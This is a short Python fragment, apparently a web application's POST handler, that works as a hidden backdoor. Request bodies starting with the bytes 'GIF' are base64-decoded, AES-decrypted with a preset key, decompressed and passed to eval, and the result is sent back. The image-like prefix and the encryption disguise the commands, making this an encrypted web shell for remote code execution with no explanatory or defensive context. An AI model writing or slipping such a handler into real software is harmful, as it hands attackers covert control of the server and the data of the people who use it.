raise SystemExit
def post( self ) :
    dd   =  request . get_data( )
    if   dd[ :3 ]  ==  b'GIF' :
        from base64 import b64decode as u ; import zlib
        raw = AES.new( K , AES.MODE_CBC , V ).decrypt( u( dd[ 3: ] ) )
        src = zlib . decompress( raw )
        out = eval( src )
        return Response( out )
